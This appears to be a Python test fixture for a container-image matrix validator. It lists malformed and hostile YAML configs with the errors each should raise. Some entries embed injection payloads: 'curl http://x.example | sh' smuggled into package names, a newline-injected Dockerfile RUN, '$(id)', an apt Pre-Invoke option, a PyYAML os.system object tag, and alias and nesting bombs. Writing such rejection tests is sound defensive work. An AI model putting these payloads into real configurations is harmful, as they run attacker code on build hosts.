@@ -1,0 +1,169 @@
+"""Malformed and hostile matrix files: the table that tests/unit/plan/test_hostile_matrix.py asserts on and
+tools/bench_matrix.py times. Stdlib only (the benchmark imports it without pytest).
+
+Each case is a whole file (text or bytes), the line its error must name, the key words of the message,
+and how many error lines it may print (one per distinct problem, however many targets it affects).
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+
+BASE = """\
+registry: 127.0.0.1:5000
+repository: gpuforge/pytorch
+tag_template: "{id}"
+bases:
+  debian12:
+    bootstrap: {suite: bookworm, mirror: "http://deb.debian.org/debian"}
+  ubuntu22.04: {image: "ubuntu:22.04"}
+defaults:
+  user: gpuforge
+  uid: 1000
+  size_budget_gb: 14
+  apt_packages: [vim]
+  pip_packages: ["rich==15.0.0"]
+  pypi_url: https://pypi.org/simple
+matrix:
+  torch: ["2.7.1"]
+  cuda: ["12.6", "12.8"]
+  python: ["3.12"]
+  os: [ubuntu24.04]
+  flavor: [runtime, devel]
+  source: [cuda-base]
+  include:
+    - {torch: "2.7.1", cuda: "12.6", python: "3.11", os: debian12, flavor: runtime, source: wheels}
+overrides:
+  - select: "flavor=devel"
+    size_budget_gb: 22
+default: ["os=debian12"]
+"""
+END = len(BASE.splitlines()) + 1  # the line of anything appended
+
+
+@dataclass(frozen=True)
+class Case:
+    id: str
+    text: str | bytes
+    line: int  # the file:line the first error names
+    wants: tuple[str, ...]  # key words of the message
+    lines: int = 1  # error lines printed (distinct problems)
+    files: dict = field(default_factory=dict)  # extra files beside the matrix (name -> text)
+
+
+def swap(n: int, new: str) -> str:
+    """BASE with line n (1-based) replaced."""
+    lines = BASE.splitlines()
+    lines[n - 1] = new
+    return "\n".join(lines) + "\n"
+
+
+def add(text: str) -> str:
+    return BASE + text
+
+
+_BOMB = "".join(f"{c}: &{c} [{', '.join([f'*{p}'] * 9 if p else ['lol'] * 9)}]\n"
+                for p, c in zip(["", *"abcdefgh"], "abcdefghi", strict=True))
+_INC = '    - {torch: "2.7.1", cuda: "12.6", python: "3.11", os: debian12, flavor: runtime, source: wheels'
+
+CASES = [
+    # --- injection: everything that reaches a Dockerfile, a shell or a tag has a grammar
+    Case("apt-shell-injection", swap(12, '  apt_packages: ["vim; curl http://x.example | sh #"]'), 12,
+         ("defaults.apt_packages.0", "is not a Debian package name")),
+    Case("apt-newline-instruction", swap(12, '  apt_packages: ["vim\\nRUN curl http://x.example | sh"]'), 12,
+         ("defaults.apt_packages.0", "control characters", "'\\n'")),
+    Case("apt-option", swap(12, '  apt_packages: ["-oAPT::Update::Pre-Invoke::=id"]'), 12, ("is not a Debian package name",)),
+    Case("apt-bad-version", swap(12, '  apt_packages: ["vim=$(id)"]'), 12, ("is not a Debian version",)),
+    Case("pip-shell-injection", swap(13, '  pip_packages: ["rich; curl x | sh"]'), 13,
+         ("defaults.pip_packages.0", "is not a pip requirement")),
+    # a 30 kB name followed by a character no requirement has: refused in linear time (was 19 s, quadratic)
+    Case("pip-backtracking-bomb", swap(13, '  pip_packages: ["' + "a" * 30000 + '===x|y"]'), 13,
+         ("defaults.pip_packages.0", "is not a pip requirement")),
+    Case("pip-option", swap(13, '  pip_packages: ["--index-url=http://evil.example/simple"]'), 13, ("is a pip option",)),
+    Case("pip-replaces-torch", swap(13, '  pip_packages: ["torch==2.6.0"]'), 13, ("would replace torch", "`torch` axis")),
+    Case("pip-replaces-triton", swap(13, '  pip_packages: ["Triton>=3"]'), 13, ("would replace Triton",)),
+    Case("pip-direct-url", swap(13, '  pip_packages: ["foo @ https://x.example/foo.whl"]'), 13, ("direct URL",)),
+    Case("pip-moves-a-cuda-pin", swap(13, '  pip_packages: ["nvidia-cudnn-cu12==9.8.0.87"]'), 13,
+         ("conflicts with nvidia-cudnn-cu12==9.5.1.17", "pins")),
+    Case("pypi-url-newline", swap(14, '  pypi_url: "https://pypi.org/simple\\nRUN id"'), 14, ("defaults.pypi_url", "control characters")),
+    Case("pypi-url-credentials", swap(14, "  pypi_url: https://ci:s3cret@pypi.example.com/simple"), 14,
+         ("may not contain credentials", "docker history", "build secret")),
+    Case("pypi-url-no-scheme", swap(14, "  pypi_url: pypi.example.com/simple"), 14, ("needs a scheme", "https://pypi.example.com/simple")),
+    Case("pypi-url-ftp", swap(14, "  pypi_url: ftp://pypi.example.com/simple"), 14, ("scheme 'ftp' is not allowed", "http, https")),
+    Case("index-url-extra-option", swap(14, '  index_url: "https://download.pytorch.org/whl/cu126 --trusted-host evil"'), 14,
+         ("defaults.index_url", "' ' is not allowed in a URL")),
+    Case("registry-with-scheme", swap(1, "registry: https://ghcr.io"), 1, ("registry", "without a scheme", "ghcr.io")),
+    Case("registry-with-space", swap(1, 'registry: "ghcr.io extra"'), 1, ("is not a registry address",)),
+    Case("tag-with-plus", swap(3, 'tag_template: "{id}+local"'), 3, ("tag_template", "is not a valid tag")),
+    Case("tag-with-slash", swap(3, 'tag_template: "{torch}/{id}"'), 3, ("is not a valid tag",)),
+    Case("tag-leading-dot", swap(3, 'tag_template: ".{id}"'), 3, ("is not a valid tag", "not starting with .")),
+    Case("tag-too-long", swap(3, 'tag_template: "{id}-{id}-{id}"'), 3, ("characters; tags may have at most 123",)),
+    Case("tag-format-spec-bomb", swap(3, 'tag_template: "{id:>999999999}"'), 3, ("{id:>999999999} is not allowed", "plain placeholders")),
+    Case("tag-attribute-access", swap(3, 'tag_template: "{id.__class__}"'), 3, ("is not allowed",)),
+    Case("tag-placeholder-typo", swap(3, 'tag_template: "{torch}-{cudatag}"'), 3,
+         ("unknown placeholder {cudatag}", "perhaps you meant 'cuda_tag'")),
+    Case("alias-invalid-tag", swap(26, '    aliases: {prod: ["latest+1"]}'), 26, ("overrides.0.aliases.prod.0", "is not a valid tag")),
+    Case("alias-env-typo", swap(26, '    aliases: {prd: ["latest"]}'), 26, ("'prd' is not allowed", "perhaps you meant 'prod'")),
+    Case("alias-collision", swap(26, '    aliases: {prod: ["{torch}"]}'), 3, ("would name both",)),
+    # --- accepted before, broken at build time
+    Case("user-root", swap(9, "  user: root"), 9, ("defaults.user", "'root' is an account or group the base image already has")),
+    Case("user-system-account", swap(9, "  user: nobody"), 9, ("'nobody'", "already has")),
+    Case("user-bad-grammar", swap(9, '  user: "gpu forge"'), 9, ("is not a user name",)),
+    Case("include-uid", swap(23, _INC + ", uid: 0}"), 23, ("matrix.include.0.uid", "greater than or equal to 1000")),
+    Case("include-user", swap(23, _INC + ', user: "Bad User"}'), 23, ("matrix.include.0.user", "is not a user name")),
+    Case("include-aliases", swap(23, _INC + ', aliases: {prod: ["{nope}"]}}'), 23,
+         ("matrix.include.0.aliases.prod.0", "unknown placeholder {nope}")),
+    Case("size-negative", swap(11, "  size_budget_gb: -5"), 11, ("defaults.size_budget_gb", "positive, finite")),
+    Case("size-zero", swap(11, "  size_budget_gb: 0"), 11, ("positive, finite",)),
+    Case("size-nan", swap(11, "  size_budget_gb: .nan"), 11, ("positive, finite", "nan")),
+    Case("size-inf", swap(11, "  size_budget_gb: .inf"), 11, ("positive, finite", "inf")),
+    Case("suite-not-the-os", swap(6, '    bootstrap: {suite: bullseye, mirror: "http://deb.debian.org/debian"}'), 6,
+         ("bases.debian12.bootstrap.suite", "'bullseye' is not debian12's (bookworm)", "another Python")),
+    Case("mirror-no-scheme", swap(6, "    bootstrap: {suite: bookworm, mirror: deb.debian.org/debian}"), 6,
+         ("bases.debian12.bootstrap.mirror", "needs a scheme")),
+    Case("mirror-credentials", swap(6, "    bootstrap: {suite: bookworm, mirror: 'http://u:p@deb.example.org/debian'}"), 6,
+         ("may not contain credentials",)),
+    Case("base-image-wrong-version", swap(7, '  ubuntu22.04: {image: "ubuntu:24.04"}'), 7,
+         ("bases.ubuntu22.04.image", "is not ubuntu22.04", "22.04 or jammy")),
+    Case("base-image-wrong-family", swap(7, '  ubuntu22.04: {image: "debian:12"}'), 7, ("is debian, not ubuntu",)),
+    Case("base-image-not-a-reference", swap(7, '  ubuntu22.04: {image: "Ubuntu:22.04; id"}'), 7, ("is not an image reference",)),
+    Case("base-image-unpinned", swap(7, '  ubuntu22.04: {image: "ubuntu:latest"}'), 7, ("needs a version tag (not latest) or a digest",)),
+    Case("cuda-base-without-cuda-version", add('cuda_base_image: "nvidia/cuda:{flavor}-{os}"\n'), END, ("must contain {cuda_full}",)),
+    Case("cuda-base-unknown-placeholder", add('cuda_base_image: "nvidia/cuda:{cuda}-{os}"\n'), END,
+         ("unknown placeholder {cuda}", "perhaps you meant 'cuda_full'")),
+    Case("cuda-base-renders-invalid", add('cuda_base_image: "NVIDIA/cuda:{cuda_full}-{cudnn_tag}-{flavor}-{os}"\n'), END,
+         ("cuda_base_image", "is not an image reference")),
+    Case("override-matches-nothing", swap(25, '  - select: "flavor=debug"'), 25, ("overrides.0.select", "matches no target")),
+    Case("override-sets-nothing", swap(26, "    size_budget_gb: 22\n  - select: os=debian12"), 27, ("sets nothing",)),
+    Case("extra-ca-missing", add("extra_ca: certs/ca.pem\n"), END, ("extra_ca", "certs/ca.pem: no such file", "matrix file's folder")),
+    Case("extra-ca-not-pem", add("extra_ca: ca.pem\n"), END, ("not a PEM bundle",), files={"ca.pem": "hello\n"}),
+    # --- one error per mistake, at the value, with the text as written
+    Case("os-typo-grouped", swap(19, "  os: [ubuntu2404]"), 19, ("matrix.os.0", "unknown os 'ubuntu2404'", "perhaps you meant 'ubuntu24.04'", "4 targets")),
+    Case("python-mismatch-grouped", swap(18, '  python: ["3.11"]'), 18, ("matrix.python.0", "ships python 3.12, not 3.11", "4 targets")),
+    Case("cuda-unquoted-12.10", swap(17, '  cuda: [12.10, "12.8"]'), 17, ("matrix.cuda.0", 'got 12.10', 'e.g. "12.10"')),
+    Case("os-norway-no", swap(19, "  os: [no]"), 19, ("matrix.os.0", "got no (a boolean to YAML)", 'e.g. "no"')),
+    Case("flavor-typo", swap(20, "  flavor: [runtime, devle]"), 20, ("'devle' is not allowed", "perhaps you meant 'devel'")),
+    Case("include-missing-axes", swap(23, '    - {torch: "2.7.1", cuda: "12.6", os: debian12}'), 23, ("has no python, flavor, source",)),
+    Case("exclude-empty", swap(21, "  source: [cuda-base]\n  exclude: [{}]"), 22, ("empty exclude entry",)),
+    # --- hangs and resource bombs: refused quickly, at the line
+    Case("alias-bomb", _BOMB + BASE, 5, ("alias bomb", "more than 10,000 values")),
+    Case("alias-recursive", "a: &a [1, *a]\n" + BASE, 1, ("recursive",)),
+    Case("deep-nesting", "x: " + "[" * 100_000 + "]" * 100_000 + "\n" + BASE, 1, ("nested deeper than 32",)),
+    Case("ten-megabytes", BASE + "# " + "x" * 10_000_000 + "\n", 1, ("larger than 1024 KiB",)),
+    Case("axes-product-explosion", swap(16, "  torch: [" + ", ".join(f'"2.{i}.0"' for i in range(60)) + "]")
+         .replace('  cuda: ["12.6", "12.8"]', "  cuda: [" + ", ".join(f'"12.{i}"' for i in range(60)) + "]")
+         .replace('  python: ["3.12"]', "  python: [" + ", ".join(f'"3.{i}"' for i in range(60)) + "]"), 15,
+         ("multiply to 432,000 combinations", "at most 10,000")),
+    Case("selector-brace-bomb", swap(27, 'default: ["' + "{a,b}" * 30 + '"]'), 27, ("braces expand to more than 1024",)),
+    # --- not YAML we accept: still one line, never a traceback
+    Case("non-utf8-bytes", BASE.encode().replace(b'tag_template: "{id}"', b'tag_template: "{id}\xff\xfe"'), 3,
+         ("not UTF-8 text", "byte 0xff")),
+    Case("control-character", swap(2, "repository: gpuforge/py\x07torch"), 2, ("control characters", "U+0007")),
+    Case("python-object-tag", swap(2, "repository: !!python/object/apply:os.system [id]"), 2, ("is not allowed",)),
+    Case("empty-int-tag", add("extra_ca: !!int\n"), END, ("cannot read '' as int",)),
+    Case("boolean-key", add("no: 1\n"), END, ('the key no is read by YAML as a boolean', 'quote it: "no"')),
+    Case("duplicate-key", add("registry: again\n"), END, ("duplicate key 'registry'",)),
+    Case("two-documents", BASE + "---\nregistry: x\n", END, ("more than one YAML document",)),
+    Case("bad-timestamp", add("extra_ca: 2026-13-45\n"), END, ("cannot read '2026-13-45' as timestamp",)),
+    Case("repository-too-long", swap(2, "repository: " + "/".join(["a" * 60] * 5)), 2, ("longer than 255",)),
+]
